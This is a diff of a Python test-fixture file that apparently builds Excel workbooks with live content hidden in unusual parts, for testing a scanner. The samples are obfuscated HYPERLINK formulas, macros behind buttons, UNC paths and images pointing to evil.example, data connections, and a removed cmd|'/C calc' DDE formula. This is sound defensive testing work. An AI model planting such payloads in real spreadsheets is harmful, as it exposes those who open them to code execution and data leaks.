@@ -1,33 +1,32 @@
-"""Workbooks with something live in them where nobody looks for it; each leads to evil.example."""
+"""Workbooks with something live in a part, or led to by one, where nobody looks for it."""
 
 from __future__ import annotations
 
 import re
 
+from tests.support.kept_workbooks import WRITTEN
+from tests.support.live_workbooks import TAKEN_OUT
 from tests.support.own_workbooks import (
     BARE,
     BOOK,
     CONNECTIONS,
     FIGURES,
-    KEPT,
     MICROSOFT,
     OUTSIDE,
     SML,
-    TAKEN_OUT,
     TYPES,
+    VML,
     Alter,
     Make,
     altered,
     related,
     replacing,
-    tail,
     with_part,
     written,
 )
 
 _EVIL = "https://evil.example/x"
 _DRAWING, _CHART = "xl/drawings/drawing1.xml", "xl/charts/chart1.xml"
-_VML = "xl/drawings/vmlDrawing1.vml"
 _EMBEDDED = '<c:externalData r:id="rId71"/></c:chartSpace>'
 _MASHUP = '<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="x">evil.example</DataMashup>'
 _SMALL = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
@@ -77,11 +76,6 @@ def _without_mode(parts: dict[str, bytes]) -> None:
     parts[rels] = parts[rels].replace(b' TargetMode="External"', b"")
 
 
-def _formula(said: str) -> Make:
-    cell = f'<c r="H2">{said}<v>7</v></c></row><row r="3"'
-    return altered(BARE, replacing(FIGURES, '</row><row r="3"', cell))
-
-
 def _macro_sheet() -> Make:
     listed = (
         '<sheet name="Macro1" sheetId="9" r:id="rId800"/></sheets><definedNames>'
@@ -117,42 +111,54 @@ def _dialog() -> Make:
     )  # fmt: skip
 
 
+def _frame(anchor: str, ending: str) -> str:
+    """A place on a sheet that holds a frame, which leads to something."""
+    return (
+        f'<xdr:{anchor} xmlns:r="{TYPES.rstrip("/")}"><xdr:from/>{ending}<xdr:graphicFrame'
+        ' macro=""><xdr:nvGraphicFramePr/><xdr:xfrm/><a:graphic><a:graphicData uri="urn:x"><x:ref'
+        ' xmlns:x="urn:x" r:id="rId900"/></a:graphicData></a:graphic></xdr:graphicFrame>'
+        f"<xdr:clientData/></xdr:{anchor}>"
+    )
+
+
+def _cube() -> Make:
+    """A pivot table of a cube, as Excel saves one."""
+    cache = (
+        f'<pivotCacheDefinition {_SMALL} saveData="0" refreshOnLoad="1" supportSubquery="1">'
+        '<cacheSource type="external" connectionId="1"/><cacheFields count="1"><cacheField'
+        ' name="[D].[A].[A]" caption="A" hierarchy="1" level="1"><sharedItems/><mpMap v="0"/>'
+        '</cacheField></cacheFields><cacheHierarchies count="1"><cacheHierarchy'
+        ' uniqueName="[D].[A]" count="2"><fieldsUsage count="1"><fieldUsage x="0"/></fieldsUsage>'
+        '</cacheHierarchy></cacheHierarchies><kpis count="0"/><tupleCache/><dimensions count="1">'
+        '<dimension name="D" uniqueName="[D]" caption="D"/></dimensions><measureGroups count="1">'
+        '<measureGroup name="evil.example" caption="M"/></measureGroups><maps count="1"><map'
+        ' measureGroup="0" dimension="0"/></maps></pivotCacheDefinition>'
+    )
+    table = (
+        f'<pivotTableDefinition {_SMALL} name="P" cacheId="1" dataCaption="V"><location ref="K1:L2"'
+        ' firstHeaderRow="1" firstDataRow="1" firstDataCol="1"/><pageFields count="1"><pageField'
+        ' fld="0" hier="1"/></pageFields><pivotHierarchies count="1"><pivotHierarchy/>'
+        '</pivotHierarchies><rowHierarchiesUsage count="1"><rowHierarchyUsage hierarchyUsage="0"/>'
+        "</rowHierarchiesUsage></pivotTableDefinition>"
+    )
+    caches = '<pivotCaches><pivotCache cacheId="1" r:id="rId901"/></pivotCaches></workbook>'
+    definition = "xl/pivotCache/pivotCacheDefinition1.xml"
+    pivot = "xl/pivotTables/pivotTable1.xml"
+    return altered(
+        BARE,
+        with_part("xl/connections.xml", CONNECTIONS, f"{SML}connections+xml", BOOK, "connections"),
+        with_part(
+            definition, cache, f"{SML}pivotCacheDefinition+xml", BOOK, "pivotCacheDefinition",
+            "rId901",
+        ),
+        with_part(pivot, table, f"{SML}pivotTable+xml", FIGURES, "pivotTable"),
+        related(pivot, "pivotCacheDefinition", f"/{definition}", "rId1"),
+        replacing(BOOK, "</workbook>", caches),
+    )  # fmt: skip
+
+
 #: With a word of what the list says of it.
-HIDDEN: dict[str, tuple[Make, str]] = {
-    "letters by number": (_formula(f'<f>HYPERL&#73;NK("{_EVIL}")</f>'), "1 formula"),
-    "sign by number": (_formula("<f>cmd&#124;'/C calc'!A0</f>"), "1 formula"),
-    "instruction within": (_formula(f'<f>HYPERLINK<?x y?>("{_EVIL}")</f>'), "1 formula"),
-    "sign in an attribute": (
-        _formula(f'<f xmlns:q="urn:q" q:a=">">HYPERLINK("{_EVIL}")</f>'), "1 formula",
-    ),
-    "prefix of another alphabet": (
-        _formula(f'<é:f xmlns:é="{_SMALL[7:-1]}">HYPERLINK("{_EVIL}")</é:f>'), "1 formula",
-    ),
-    "shared in single quotes": (
-        _formula("<f t='shared' si='0' ref='H2:I2'>[1]S!A1</f>"), "1 formula",
-    ),
-    "location of a link": (
-        altered(
-            BARE, tail(f'<hyperlinks><hyperlink ref="A1" location="{_EVIL}"/></hyperlinks>')
-        ),
-        "1 link to a page",
-    ),
-    "end of a scale": (
-        altered(
-            BARE,
-            tail(
-                '<conditionalFormatting sqref="A1:A9"><cfRule type="colorScale" priority="1">'
-                '<colorScale><cfvo type="formula" val="[1]S!$A$1"/><cfvo type="max"/><color'
-                ' rgb="FFFF0000"/><color rgb="FF00FF00"/></colorScale></cfRule>'
-                "</conditionalFormatting>"
-            ),
-        ),
-        "1 rule",
-    ),
-    "name over a live name": (
-        written(lambda b, _: (b.define_name("A_", "='[1]S'!$A$1"), b.define_name("B_", "=A_*2"))),
-        "2 names that refer elsewhere",
-    ),
+HIDDEN_PARTS: dict[str, tuple[Make, str]] = {
     "queries in UTF-16": (
         altered(
             BARE,
@@ -177,11 +183,11 @@ HIDDEN: dict[str, tuple[Make, str]] = {
         altered(TAKEN_OUT["link to a page"][0], _without_mode), "1 link to a page",
     ),
     "old drawing under another name": (
-        altered(TAKEN_OUT["button"][0], _moved(_VML, "xl/odd/d1.xml")), "1 macro behind a button",
+        altered(TAKEN_OUT["button"][0], _moved(VML, "xl/odd/d1.xml")), "1 macro behind a button",
     ),
     "add-in in a drawing": (
         altered(
-            KEPT["picture"],
+            WRITTEN["picture"],
             with_part(
                 "xl/webextensions/webextension1.xml", '<w store="evil.example"/>',
                 "application/vnd.ms-office.webextension+xml", _DRAWING,
@@ -190,6 +196,23 @@ HIDDEN: dict[str, tuple[Make, str]] = {
         ),
         "1 control that runs a program",
     ),
+    "frames of an add-in": (
+        altered(
+            WRITTEN["picture"],
+            with_part(
+                "xl/webextensions/webextension1.xml", '<w store="evil.example"/>',
+                "application/vnd.ms-office.webextension+xml", _DRAWING,
+                "http://schemas.microsoft.com/office/2011/relationships/webextension",
+            ),
+            replacing(
+                _DRAWING, "</xdr:wsDr>",
+                _frame("oneCellAnchor", '<xdr:ext cx="1" cy="1"/>')
+                + _frame("twoCellAnchor", "<xdr:to/>") + "</xdr:wsDr>",
+            ),
+        ),
+        "1 control that runs a program",
+    ),
+    "pivot table of a cube": (_cube(), "2 data connections"),
     "pictures of functions": (
         altered(
             BARE,
@@ -204,7 +227,7 @@ HIDDEN: dict[str, tuple[Make, str]] = {
     ),
     "chart of another workbook": (
         altered(
-            KEPT["chart"],
+            WRITTEN["chart"],
             related(_CHART, "oleObject", r"file:///\\evil.example\b.xlsx", "rId71", OUTSIDE),
             related(_CHART, "image", _EVIL, "rId72", OUTSIDE),
             replacing(_CHART, "</c:chartSpace>", _EMBEDDED),
@@ -213,7 +236,7 @@ HIDDEN: dict[str, tuple[Make, str]] = {
     ),
     "chart with a workbook in it": (
         altered(
-            KEPT["chart"],
+            WRITTEN["chart"],
             with_part(
                 "xl/embeddings/Sheet.xlsx", b"evil.example", f"{SML}sheet", _CHART, "package",
                 "rId71",
@@ -224,7 +247,7 @@ HIDDEN: dict[str, tuple[Make, str]] = {
     ),
     "diagram": (
         altered(
-            KEPT["picture"],
+            WRITTEN["picture"],
             with_part(
                 "xl/diagrams/data1.xml", "<dataModel/>",
                 "application/vnd.openxmlformats-officedocument.drawingml.diagramData+xml",
@@ -236,7 +259,7 @@ HIDDEN: dict[str, tuple[Make, str]] = {
     ),
     "drawing in another folder": (
         altered(
-            KEPT["text box"],
+            WRITTEN["text box"],
             replacing(_DRAWING, 'macro=""', "macro='[0]!evil.example'"),
             replacing(_DRAWING, 'textlink=""', "textlink='[1]S!A1'"),
             _moved(_DRAWING, "xl/odd/d1.xml"),
@@ -244,45 +267,34 @@ HIDDEN: dict[str, tuple[Make, str]] = {
         "1 macro behind a button and 1 formula",
     ),
     "drawing in UTF-16": (
-        altered(KEPT["text box"], _in_utf16(_DRAWING, 'macro=""', 'macro="[0]!evil.example"')),
+        altered(WRITTEN["text box"], _in_utf16(_DRAWING, 'macro=""', 'macro="[0]!evil.example"')),
         "1 macro behind a button",
     ),
     "old drawing": (
         altered(
             TAKEN_OUT["button"][0],
-            replacing(_VML, "<x:FmlaMacro>", "<x:FmlaMacro >evil.example"),
-            replacing(_VML, "<v:shape id", f'<v:shape href="{_EVIL}" id'),
+            replacing(VML, "<x:FmlaMacro>", "<x:FmlaMacro >evil.example"),
+            replacing(VML, "<v:shape id", f'<v:shape href="{_EVIL}" id'),
         ),
         "1 macro behind a button and 1 link to a page",
     ),
     "picture in the header": (
         altered(
-            KEPT["picture in the header"], _led_outside("xl/drawings/_rels/vmlDrawing1.vml.rels")
+            WRITTEN["picture in the header"], _led_outside("xl/drawings/_rels/vmlDrawing1.vml.rels")
         ),
         "1 picture fetched from elsewhere",
     ),
     "background": (
-        altered(KEPT["background"], _led_outside("xl/worksheets/_rels/sheet1.xml.rels")),
+        altered(WRITTEN["background"], _led_outside("xl/worksheets/_rels/sheet1.xml.rels")),
         "1 picture fetched from elsewhere",
     ),
     "theme": (
         altered(BARE, related("xl/theme/theme1.xml", "image", _EVIL, "rId1", OUTSIDE)),
         "1 picture fetched from elsewhere",
     ),
-    "column of a table": (
-        altered(
-            KEPT["table"],
-            replacing(
-                "xl/tables/table1.xml", 'name="C"/>',
-                f'name="C"><calculatedColumnFormula>HYPERLINK("{_EVIL}")'
-                "</calculatedColumnFormula></tableColumn>",
-            ),
-        ),
-        "1 rule",
-    ),
     "table of a query in another folder": (
         altered(
-            KEPT["table"],
+            WRITTEN["table"],
             replacing("xl/tables/table1.xml", " totalsRow", ' tableType="queryTable" totalsRow'),
             _moved("xl/tables/table1.xml", "xl/odd/t1.xml"),
             with_part(
@@ -291,28 +303,6 @@ HIDDEN: dict[str, tuple[Make, str]] = {
             ),
         ),
         "1 data connection",
-    ),
-    "publishing": (
-        altered(
-            BARE,
-            replacing(
-                FIGURES, "</worksheet>",
-                '<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet"'
-                r' destinationFile="\\evil.example\x.htm"/></webPublishItems></worksheet>',
-            ),
-        ),
-        "1 link to a page",
-    ),
-    "consolidation": (
-        altered(
-            BARE,
-            tail(
-                '<dataConsolidate link="1"><dataRefs count="1"><dataRef ref="A1" sheet="S"'
-                ' r:id="rId77"/></dataRefs></dataConsolidate>'
-            ),
-            related(FIGURES, "externalLinkPath", r"file:///\\evil.example\b", "rId77", OUTSIDE),
-        ),
-        "1 link to another workbook",
     ),
     "menus of a user": (
         altered(
@@ -373,17 +363,6 @@ HIDDEN: dict[str, tuple[Make, str]] = {
             ),
         ),
         "1 data connection",
-    ),
-    "list of a control": (
-        altered(
-            BARE,
-            with_part(
-                "xl/ctrlProps/ctrlProp1.xml",
-                '<formControlPr objectType="Drop" fmlaRange="[1]S!$A$1:$A$9"/>',
-                "application/vnd.ms-excel.controlproperties+xml", FIGURES, "ctrlProp",
-            ),
-        ),
-        "1 formula",
     ),
     "macros by extension": (
         altered(
